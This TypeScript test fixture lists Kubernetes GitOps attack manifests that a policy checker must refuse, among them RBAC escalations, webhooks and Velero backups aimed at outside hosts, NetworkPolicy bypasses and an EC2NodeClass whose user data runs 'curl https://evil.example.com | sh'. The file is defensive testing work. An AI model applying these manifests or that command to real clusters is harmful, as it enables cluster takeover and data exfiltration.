import * as YAML from "yaml";
import * as names from "../../fleet/names";
import { HEALTH_ANSWERS } from "../../fleet/traffic";

/**
 * What a contributor with write access to the GitOps repository would add to `replicated/`
 * to take a cluster over: each attack is one file, rendered by `npm run synth` into every
 * cluster, and must fail `npm run check` naming the rule and the rendered file. The traffic
 * layer has no folder in `replicated/` (synth refuses one): its attacks are written straight
 * into each cluster's rendered `traffic/` folder and listed in its kustomization.
 * `source`: "issue" for the shapes issue 21 reports, "own" for those added while attacking
 * the allow-list; `refusedBefore` marks the ones another rule already refused before it.
 */
export interface Attack {
  readonly name: string;
  readonly source: "issue" | "own";
  readonly layer: "platform" | "traffic" | "apps";
  /** The file's YAML; its first document is the one the rule reports. */
  readonly yaml: string;
  readonly rule: string;
  readonly refusedBefore?: true;
}

const RBAC = "rbac.authorization.k8s.io/v1";
const doc = (...objects: object[]) => objects.map((o) => YAML.stringify(o)).join("---\n");
const clusterRole = (name: string, rules: object[], extra: object = {}) => doc({ apiVersion: RBAC, kind: "ClusterRole", metadata: { name }, rules, ...extra });
const grant = (name: string, apiGroup: string, resources: string[], verbs: string[]) => clusterRole(name, [{ apiGroups: [apiGroup], resources, verbs }]);
const group = (name: string) => ({ apiGroup: "rbac.authorization.k8s.io", kind: "Group", name });
const networkPolicy = (name: string, spec: object, namespace = "payments") =>
  doc({ apiVersion: "networking.k8s.io/v1", kind: "NetworkPolicy", metadata: { name, namespace }, spec: { podSelector: {}, ...spec } });
/** A workload that meets the restricted Pod Security Standard, so only the rule under test can fire. */
const hardenedPod = (extra: object = {}) => ({
  securityContext: { runAsNonRoot: true, runAsUser: 10001, seccompProfile: { type: "RuntimeDefault" } },
  containers: [{ name: "app", image: "registry.example.com/app:1.0", securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } } }],
  ...extra,
});
const deployment = (name: string, namespace: string, pod: object) =>
  doc({ apiVersion: "apps/v1", kind: "Deployment", metadata: { name, namespace }, spec: { selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: pod } } });

export const ATTACKS: readonly Attack[] = [
  // ── The first attacker of issue 21 ──
  {
    name: "a cluster-wide binding of the built-in admin role", source: "issue", layer: "platform", rule: "rbac-no-builtin-cluster-binding",
    yaml: doc({ apiVersion: RBAC, kind: "ClusterRoleBinding", metadata: { name: "ops-admin" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "admin" }, subjects: [group("ops")] }),
  },
  { name: "a ClusterRole that reads Secrets", source: "issue", layer: "platform", rule: "rbac-no-sensitive-grant", yaml: grant("secret-reader", "", ["secrets"], ["get", "list", "watch"]) },
  { name: "a ClusterRole that uses pods/exec", source: "issue", layer: "platform", rule: "rbac-no-sensitive-grant", yaml: grant("debugger", "", ["pods/exec"], ["create"]) },
  { name: "a ClusterRole that uses nodes/proxy", source: "issue", layer: "platform", rule: "rbac-no-sensitive-grant", yaml: grant("node-metrics", "", ["nodes/proxy"], ["get"]) },
  { name: "a ClusterRole that mints service account tokens", source: "issue", layer: "platform", rule: "rbac-no-sensitive-grant", yaml: grant("token-minter", "", ["serviceaccounts/token"], ["create"]) },
  {
    name: "an edit RoleBinding inside flux-system", source: "issue", layer: "platform", rule: "manifests-declared-namespace",
    yaml: doc({ apiVersion: RBAC, kind: "RoleBinding", metadata: { name: "helpers", namespace: "flux-system" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "edit" }, subjects: [group("ops")] }),
  },
  {
    name: "a Job that runs as kustomize-controller in flux-system", source: "issue", layer: "apps", rule: "manifests-declared-namespace",
    yaml: doc({ apiVersion: "batch/v1", kind: "Job", metadata: { name: "maintenance", namespace: "flux-system" }, spec: { template: { spec: hardenedPod({ serviceAccountName: "kustomize-controller", restartPolicy: "Never" }) } } }),
  },
  {
    name: "a MutatingWebhookConfiguration sending every Pod and Secret to an external URL", source: "issue", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({
      apiVersion: "admissionregistration.k8s.io/v1", kind: "MutatingWebhookConfiguration", metadata: { name: "observability" },
      webhooks: [{
        name: "observe.example.com", admissionReviewVersions: ["v1"], sideEffects: "None", failurePolicy: "Ignore",
        clientConfig: { url: "https://collector.example.com/mutate" },
        rules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE", "UPDATE"], resources: ["pods", "secrets"] }],
      }],
    }),
  },
  {
    name: "a Flux GitRepository of an unreviewed repository", source: "issue", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "source.toolkit.fluxcd.io/v1", kind: "GitRepository", metadata: { name: "extras", namespace: "payments" }, spec: { url: "https://github.com/evil/extras", interval: "1m", ref: { branch: "main" } } }),
  },
  {
    name: "a Flux Kustomization that applies it", source: "issue", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "kustomize.toolkit.fluxcd.io/v1", kind: "Kustomization", metadata: { name: "extras", namespace: "payments" }, spec: { interval: "1m", path: "./", prune: true, sourceRef: { kind: "GitRepository", name: "extras" } } }),
  },
  {
    name: "a NetworkPolicy allowing 0.0.0.0/1 and 128.0.0.0/1", source: "issue", layer: "platform", rule: "network-no-allow-all",
    yaml: networkPolicy("egress-everywhere", { policyTypes: ["Egress"], egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/1" } }, { ipBlock: { cidr: "128.0.0.0/1" } }] }] }),
  },
  {
    name: "an APIService that takes over metrics.k8s.io", source: "issue", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({
      apiVersion: "apiregistration.k8s.io/v1", kind: "APIService", metadata: { name: "v1beta1.metrics.k8s.io" },
      spec: { group: "metrics.k8s.io", version: "v1beta1", groupPriorityMinimum: 100, versionPriority: 100, insecureSkipTLSVerify: true, service: { name: "collector", namespace: "payments" } },
    }),
  },
  // ── The second attacker of issue 21 ──
  {
    name: "a merge key hiding a cluster-admin roleRef", source: "issue", layer: "platform", rule: "rbac-no-cluster-admin-binding",
    yaml: `apiVersion: ${RBAC}\nkind: RoleBinding\nmetadata:\n  name: merged-admin\n  namespace: payments\n  labels: &ref {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nroleRef:\n  <<: *ref\nsubjects:\n  - {apiGroup: rbac.authorization.k8s.io, kind: Group, name: ops}\n`,
  },
  {
    name: "a merge key hiding escalate and bind", source: "issue", layer: "platform", rule: "rbac-no-escalation",
    yaml: `apiVersion: ${RBAC}\nkind: ClusterRole\nmetadata:\n  name: merged-escalate\nrules:\n  - <<: {verbs: [escalate, bind], resources: [clusterroles]}\n    apiGroups: [rbac.authorization.k8s.io]\n`,
  },
  {
    name: "a merge key hiding hostNetwork and hostPID", source: "issue", layer: "apps", rule: "pod-security-workloads",
    yaml: deployment("merged-host", "payments", hardenedPod()).replace("    spec:\n      securityContext:", "    spec:\n      <<: {hostNetwork: true, hostPID: true}\n      securityContext:"),
  },
  {
    name: "the agent's own GitRepository, pointed at another repository", source: "issue", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "source.toolkit.fluxcd.io/v1", kind: "GitRepository", metadata: { name: names.FLUX_OBJECTS.source, namespace: names.AGENTS.flux.namespace }, spec: { url: "https://github.com/evil/fleet", interval: "1m", ref: { branch: "main" } } }),
  },
  {
    name: "the ClusterSecretStore without its namespace conditions", source: "issue", layer: "apps", rule: "manifests-allowed-kinds",
    yaml: doc({
      apiVersion: "external-secrets.io/v1", kind: "ClusterSecretStore", metadata: { name: "aws-secrets-manager" },
      spec: { provider: { aws: { service: "SecretsManager", region: "us-east-1", auth: { jwt: { serviceAccountRef: { name: "external-secrets", namespace: "external-secrets" } } } } } },
    }),
  },
  {
    name: "a namespace's default-deny, redefined from the apps layer", source: "issue", layer: "apps", rule: "manifests-unique-identity",
    yaml: networkPolicy("default-deny", { policyTypes: ["Ingress"], ingress: [{ from: [{ namespaceSelector: { matchLabels: { team: "ops" } } }] }] }),
  },
  {
    name: "a HelmRelease with a post-renderer", source: "issue", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({
      apiVersion: "helm.toolkit.fluxcd.io/v2", kind: "HelmRelease", metadata: { name: "tools", namespace: "payments" },
      spec: { interval: "5m", chart: { spec: { chart: "tools", sourceRef: { kind: "HelmRepository", name: "tools" } } }, postRenderers: [{ kustomize: { patches: [{ patch: "- op: add\n  path: /spec/template/spec/hostNetwork\n  value: true" }] } }] },
    }),
  },
  {
    name: "an Argo CD Application from another repository", source: "issue", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({
      apiVersion: "argoproj.io/v1alpha1", kind: "Application", metadata: { name: "extras", namespace: names.AGENTS.argocd.namespace },
      spec: { project: "default", source: { repoURL: "https://github.com/evil/extras", path: ".", targetRevision: "main" }, destination: { server: "https://kubernetes.default.svc", namespace: "kube-system" }, syncPolicy: { automated: {} } },
    }),
  },
  {
    name: "a grant of CSR approval", source: "issue", layer: "platform", rule: "rbac-no-sensitive-grant",
    yaml: clusterRole("csr-approver", [
      { apiGroups: ["certificates.k8s.io"], resources: ["certificatesigningrequests/approval"], verbs: ["update"] },
      { apiGroups: ["certificates.k8s.io"], resources: ["signers"], resourceNames: ["kubernetes.io/kube-apiserver-client"], verbs: ["approve"] },
    ]),
  },
  { name: "a grant of namespace relabeling (lifts Pod Security)", source: "issue", layer: "platform", rule: "rbac-no-sensitive-grant", yaml: grant("namespace-labeler", "", ["namespaces"], ["patch"]) },
  {
    name: "aggregation selected through matchExpressions", source: "issue", layer: "platform", rule: "rbac-no-aggregation",
    yaml: doc(
      { apiVersion: RBAC, kind: "ClusterRole", metadata: { name: "collector" }, aggregationRule: { clusterRoleSelectors: [{ matchExpressions: [{ key: "rbac.authorization.k8s.io/aggregate-to-admin", operator: "Exists" }] }] }, rules: [] },
    ),
  },
  {
    name: "a hostPath PersistentVolume a restricted pod can mount", source: "issue", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "v1", kind: "PersistentVolume", metadata: { name: "node-root" }, spec: { capacity: { storage: "1Gi" }, accessModes: ["ReadWriteOnce"], hostPath: { path: "/" }, storageClassName: "manual" } }),
  },
  {
    name: "a NetworkPolicy that cancels default-deny with an Exists selector", source: "issue", layer: "platform", rule: "network-no-allow-all",
    yaml: networkPolicy("from-every-namespace", { policyTypes: ["Ingress"], ingress: [{ from: [{ namespaceSelector: { matchExpressions: [{ key: "kubernetes.io/metadata.name", operator: "Exists" }] } }] }] }),
  },
  {
    name: "a NetworkPolicy with a full port range", source: "issue", layer: "platform", rule: "network-no-allow-all",
    yaml: networkPolicy("all-ports", { policyTypes: ["Egress"], egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }], ports: [{ protocol: "TCP", port: 1, endPort: 65535 }] }] }),
  },
  {
    name: "an object in a namespace the fleet does not declare", source: "issue", layer: "platform", rule: "manifests-declared-namespace",
    yaml: doc({ apiVersion: "v1", kind: "ConfigMap", metadata: { name: "settings", namespace: "shadow" }, data: { a: "b" } }),
  },
  // ── Added while attacking the allow-list ──
  {
    name: "a CRD that replaces External Secrets' own", source: "own", layer: "platform", rule: "manifests-declared-crd",
    yaml: doc({
      apiVersion: "apiextensions.k8s.io/v1", kind: "CustomResourceDefinition", metadata: { name: "externalsecrets.external-secrets.io" },
      spec: { group: "external-secrets.io", scope: "Namespaced", names: { kind: "ExternalSecret", plural: "externalsecrets" }, versions: [{ name: "v1", served: true, storage: true, schema: { openAPIV3Schema: { type: "object", "x-kubernetes-preserve-unknown-fields": true } } }] },
    }),
  },
  {
    name: "a CRD whose conversion webhook is an external URL", source: "own", layer: "platform", rule: "manifests-declared-crd",
    yaml: doc({
      apiVersion: "apiextensions.k8s.io/v1", kind: "CustomResourceDefinition", metadata: { name: "widgets.tools.example.com" },
      spec: {
        group: "tools.example.com", scope: "Namespaced", names: { kind: "Widget", plural: "widgets" },
        versions: [{ name: "v1", served: true, storage: true, schema: { openAPIV3Schema: { type: "object" } } }],
        conversion: { strategy: "Webhook", webhook: { conversionReviewVersions: ["v1"], clientConfig: { url: "https://collector.example.com/convert" } } },
      },
    }),
  },
  { name: "a PriorityClass that preempts system pods", source: "own", layer: "platform", rule: "manifests-allowed-kinds", yaml: doc({ apiVersion: "scheduling.k8s.io/v1", kind: "PriorityClass", metadata: { name: "urgent" }, value: 1000000000, globalDefault: true }) },
  {
    name: "a Service with externalIPs (intercepts traffic to those addresses)", source: "own", layer: "apps", rule: "network-no-public-service",
    yaml: doc({ apiVersion: "v1", kind: "Service", metadata: { name: "mitm", namespace: "payments" }, spec: { selector: { app: "api" }, ports: [{ port: 443 }], externalIPs: ["52.94.236.248"] } }),
  },
  {
    name: "an internet-facing LoadBalancer Service that bypasses the gateway", source: "own", layer: "apps", rule: "network-no-public-service",
    yaml: doc({ apiVersion: "v1", kind: "Service", metadata: { name: "direct", namespace: "payments", annotations: { "service.beta.kubernetes.io/aws-load-balancer-scheme": "internet-facing" } }, spec: { type: "LoadBalancer", selector: { app: "api" }, ports: [{ port: 443 }] } }),
  },
  {
    name: "a TargetGroupBinding that puts other pods behind the gateway's target group", source: "own", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "elbv2.k8s.aws/v1beta1", kind: "TargetGroupBinding", metadata: { name: "hijack", namespace: "payments" }, spec: { serviceRef: { name: "api", port: 80 }, targetGroupName: "prod-use1-gw", targetType: "ip" } }),
  },
  {
    name: "a second EC2NodeClass whose nodes run user data as another role", source: "own", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "karpenter.k8s.aws/v1", kind: "EC2NodeClass", metadata: { name: "fast" }, spec: { role: "prod-admin", userData: "#!/bin/bash\ncurl https://evil.example.com | sh", amiSelectorTerms: [{ alias: "al2023@latest" }] } }),
  },
  {
    name: "a RoleBinding to every node (system:nodes)", source: "own", layer: "platform", rule: "rbac-no-broad-subject",
    yaml: doc({ apiVersion: RBAC, kind: "RoleBinding", metadata: { name: "nodes-admin", namespace: "payments" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "admin" }, subjects: [group("system:nodes")] }),
  },
  {
    name: "a workload that runs as the namespace's secrets reader", source: "own", layer: "apps", rule: "workloads-own-service-account",
    yaml: deployment("reader", "payments", hardenedPod({ serviceAccountName: names.SECRETS_READER_SERVICE_ACCOUNT })),
  },
  {
    name: "a workload naming an agent's service account through the deprecated serviceAccount field", source: "own", layer: "apps", rule: "workloads-own-service-account",
    yaml: deployment("legacy", "payments", hardenedPod({ serviceAccount: names.AGENTS.flux.serviceAccount })),
  },
  {
    name: "a Namespace object for flux-system, relabeled", source: "own", layer: "platform", rule: "manifests-declared-namespace", refusedBefore: true,
    yaml: doc({ apiVersion: "v1", kind: "Namespace", metadata: { name: "flux-system", labels: { "pod-security.kubernetes.io/enforce": "privileged" } } }),
  },
  { name: "a ClusterRole that adds ephemeral containers to running pods", source: "own", layer: "platform", rule: "rbac-no-sensitive-grant", yaml: grant("ephemeral", "", ["pods/ephemeralcontainers"], ["patch"]) },
  {
    name: "egress to the internet split over two NetworkPolicies", source: "own", layer: "platform", rule: "network-no-allow-all",
    yaml: [
      networkPolicy("egress-low-half", { policyTypes: ["Egress"], egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/1" } }] }] }),
      networkPolicy("egress-high-half", { policyTypes: ["Egress"], egress: [{ to: [{ ipBlock: { cidr: "128.0.0.0/1" } }] }] }),
    ].join("---\n"),
  },
  {
    name: "IPv6 egress to ::/1 and 8000::/1", source: "own", layer: "platform", rule: "network-no-allow-all",
    yaml: networkPolicy("egress-v6", { policyTypes: ["Egress"], egress: [{ to: [{ ipBlock: { cidr: "::/1" } }, { ipBlock: { cidr: "8000::/1" } }] }] }),
  },
  {
    name: "ingress from every namespace but one (NotIn)", source: "own", layer: "platform", rule: "network-no-allow-all",
    yaml: networkPolicy("from-almost-all", { policyTypes: ["Ingress"], ingress: [{ from: [{ namespaceSelector: { matchExpressions: [{ key: "kubernetes.io/metadata.name", operator: "NotIn", values: ["kube-system"] }] } }] }] }),
  },
  {
    name: "the whole port range split over two rules", source: "own", layer: "platform", rule: "network-no-allow-all",
    yaml: networkPolicy("split-ports", { policyTypes: ["Egress"], egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }], ports: [{ protocol: "TCP", port: 1, endPort: 32767 }] }, { to: [{ ipBlock: { cidr: "0.0.0.0/0" } }], ports: [{ protocol: "TCP", port: 32768, endPort: 65535 }] }] }),
  },
  {
    name: "an internet-facing Ingress (an ALB beside the gateway)", source: "own", layer: "apps", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "networking.k8s.io/v1", kind: "Ingress", metadata: { name: "direct", namespace: "payments", annotations: { "alb.ingress.kubernetes.io/scheme": "internet-facing" } }, spec: { ingressClassName: "alb", defaultBackend: { service: { name: "api", port: { number: 80 } } } } }),
  },
  {
    name: "a ValidatingAdmissionPolicy that denies every change (locks the fleet out)", source: "own", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "admissionregistration.k8s.io/v1", kind: "ValidatingAdmissionPolicy", metadata: { name: "freeze" }, spec: { failurePolicy: "Fail", matchConstraints: { resourceRules: [{ apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: ["*"] }] }, validations: [{ expression: "false" }] } }),
  },
  { name: "a namespaced object without a namespace (lands in default)", source: "own", layer: "apps", rule: "manifests-declared-namespace", yaml: doc({ apiVersion: "v1", kind: "ConfigMap", metadata: { name: "stray" }, data: { a: "b" } }) },
  {
    name: "the gateway's ConfigMap, redefined from the apps layer", source: "own", layer: "apps", rule: "manifests-unique-identity",
    yaml: doc({ apiVersion: "v1", kind: "ConfigMap", metadata: { name: "ingress-gateway", namespace: names.GATEWAY_NAMESPACE }, data: { "serving": "true" } }),
  },
  {
    name: "a second default StorageClass, unencrypted", source: "own", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "storage.k8s.io/v1", kind: "StorageClass", metadata: { name: "fast", annotations: { "storageclass.kubernetes.io/is-default-class": "true" } }, provisioner: "ebs.csi.aws.com", parameters: { type: "io2", encrypted: "false" } }),
  },
  {
    name: "a Velero location in another account, with a schedule of every namespace", source: "own", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "velero.io/v1", kind: "BackupStorageLocation", metadata: { name: "offsite", namespace: names.AGENTS.velero.namespace }, spec: { provider: "aws", objectStorage: { bucket: "evil-exfil" }, config: { region: "us-east-1" } } }),
  },
  {
    name: "a ClusterRoleBinding to a system: role that can escalate", source: "own", layer: "platform", rule: "rbac-no-builtin-cluster-binding",
    yaml: doc({ apiVersion: RBAC, kind: "ClusterRoleBinding", metadata: { name: "aggregator" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "system:controller:clusterrole-aggregation-controller" }, subjects: [group("ops")] }),
  },
  { name: "a read-only ClusterRole labelled into edit", source: "own", layer: "platform", rule: "rbac-no-aggregation", yaml: clusterRole("extra-view", [{ apiGroups: [""], resources: ["pods"], verbs: ["get"] }], { metadata: { name: "extra-view", labels: { "rbac.authorization.k8s.io/aggregate-to-edit": "true" } } }) },
  {
    name: "an Endpoints object that redirects the kubernetes Service", source: "own", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "v1", kind: "Endpoints", metadata: { name: "kubernetes", namespace: "default" }, subsets: [{ addresses: [{ ip: "52.94.236.248" }], ports: [{ name: "https", port: 443 }] }] }),
  },
  // In the apps layer the renderer refuses a bare Pod (a standby could not hold it at its scale); the platform layer is not scaled.
  { name: "a bare Pod in the platform layer", source: "own", layer: "platform", rule: "manifests-allowed-kinds", yaml: doc({ apiVersion: "v1", kind: "Pod", metadata: { name: "shell", namespace: "payments" }, spec: hardenedPod() }) },
  {
    name: "a Role that mints tokens for the namespace's secrets reader", source: "own", layer: "apps", rule: "rbac-no-sensitive-grant",
    yaml: doc({ apiVersion: RBAC, kind: "Role", metadata: { name: "token-minter", namespace: "payments" }, rules: [{ apiGroups: [""], resources: ["serviceaccounts/token"], verbs: ["create"] }] }),
  },
  {
    name: "a RoleBinding that gives the platform layer's rights to a group", source: "own", layer: "platform", rule: "rbac-no-foreign-subject",
    yaml: doc({ apiVersion: RBAC, kind: "RoleBinding", metadata: { name: "borrowed-rights", namespace: "payments" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: names.layerRoleName("platform") }, subjects: [group("ops")] }),
  },
  {
    name: "a RoleBinding that gives admin to another namespace's service account", source: "own", layer: "platform", rule: "rbac-no-foreign-subject",
    yaml: doc({ apiVersion: RBAC, kind: "RoleBinding", metadata: { name: "cross-tenant", namespace: "payments" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "admin" }, subjects: [{ kind: "ServiceAccount", name: "default", namespace: "ingress" }] }),
  },
  // ── Through the traffic layer: the failover switch, which nothing waits for ──
  {
    name: "the gateway's nginx configuration, rewritten from the traffic layer", source: "own", layer: "traffic", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "v1", kind: "ConfigMap", metadata: { name: "ingress-gateway", namespace: names.GATEWAY_NAMESPACE }, data: { "nginx.conf": "events {}\nhttp { server { listen 8080; location / { proxy_pass https://collector.example.com; } } }\n" } }),
  },
  {
    name: "an app's settings shipped through the traffic layer, past the platform's review of apps", source: "own", layer: "traffic", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "v1", kind: "ConfigMap", metadata: { name: "feature-flags", namespace: "payments" }, data: { debug: "true" } }),
  },
  {
    name: "a RoleBinding in the traffic layer that gives admin in the gateway's namespace", source: "own", layer: "traffic", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: RBAC, kind: "RoleBinding", metadata: { name: "gateway-admins", namespace: names.GATEWAY_NAMESPACE }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "admin" }, subjects: [group("ops")] }),
  },
  { name: "a Deployment in the traffic layer", source: "own", layer: "traffic", rule: "manifests-allowed-kinds", yaml: deployment("sidecar", names.GATEWAY_NAMESPACE, hardenedPod()) },
  {
    name: "a kind replicated/'s CRD declares, in the traffic layer", source: "own", layer: "traffic", rule: "manifests-allowed-kinds",
    yaml: doc({ apiVersion: "platform.eks-fleet.io/v1alpha1", kind: "MaintenanceWindow", metadata: { name: "always", namespace: names.GATEWAY_NAMESPACE }, spec: { schedule: "* * * * *", duration: "24h" } }),
  },
  {
    name: "the health answers, redefined from the apps layer (a standby that answers serving)", source: "own", layer: "apps", rule: "manifests-unique-identity",
    yaml: doc({ apiVersion: "v1", kind: "ConfigMap", metadata: { name: HEALTH_ANSWERS.name, namespace: HEALTH_ANSWERS.namespace }, data: { [HEALTH_ANSWERS.keys.serving]: "yes\n" } }),
  },
  {
    name: "a ClusterRoleBinding that gives the apps layer's rights in every namespace", source: "own", layer: "platform", rule: "rbac-no-foreign-subject",
    yaml: doc({
      apiVersion: RBAC, kind: "ClusterRoleBinding", metadata: { name: "apps-everywhere" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: names.layerRoleName("apps") },
      subjects: [{ kind: "ServiceAccount", name: names.fluxLayerServiceAccount("apps"), namespace: names.AGENTS.flux.namespace }],
    }),
  },
  {
    name: "the traffic layer's role bound in a fleet namespace", source: "own", layer: "platform", rule: "rbac-no-foreign-subject",
    yaml: doc({
      apiVersion: RBAC, kind: "RoleBinding", metadata: { name: "traffic-in-payments", namespace: "payments" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: names.layerRoleName("traffic") },
      subjects: [{ kind: "ServiceAccount", name: names.fluxLayerServiceAccount("traffic"), namespace: names.AGENTS.flux.namespace }],
    }),
  },
  {
    name: "a Flux Receiver that lets anyone with its token trigger reconciles", source: "own", layer: "platform", rule: "manifests-allowed-kinds",
    yaml: doc({
      apiVersion: "notification.toolkit.fluxcd.io/v1", kind: "Receiver", metadata: { name: "anyone", namespace: "payments" },
      spec: { type: "generic", secretRef: { name: "known-token" }, resources: [{ apiVersion: "kustomize.toolkit.fluxcd.io/v1", kind: "Kustomization", name: "*" }] },
    }),
  },
  // ── Tried, and refused before the allow-list too ──
  {
    name: "a DaemonSet mounting the node's root filesystem", source: "own", layer: "apps", rule: "pod-security-workloads", refusedBefore: true,
    yaml: doc({ apiVersion: "apps/v1", kind: "DaemonSet", metadata: { name: "node-agent", namespace: "payments" }, spec: { selector: { matchLabels: { app: "node-agent" } }, template: { metadata: { labels: { app: "node-agent" } }, spec: hardenedPod({ volumes: [{ name: "root", hostPath: { path: "/" } }] }) } } }),
  },
  { name: "a ClusterRole with a wildcard", source: "own", layer: "platform", rule: "rbac-no-wildcard", refusedBefore: true, yaml: grant("everything", "*", ["*"], ["get"]) },
  {
    name: "cluster-admin for every authenticated user", source: "own", layer: "platform", rule: "rbac-no-broad-subject", refusedBefore: true,
    yaml: doc({ apiVersion: RBAC, kind: "ClusterRoleBinding", metadata: { name: "everyone" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" }, subjects: [group("system:authenticated")] }),
  },
  { name: "a NetworkPolicy allowing 0.0.0.0/0", source: "own", layer: "platform", rule: "network-no-allow-all", refusedBefore: true, yaml: networkPolicy("egress-world", { policyTypes: ["Egress"], egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }] }) },
];
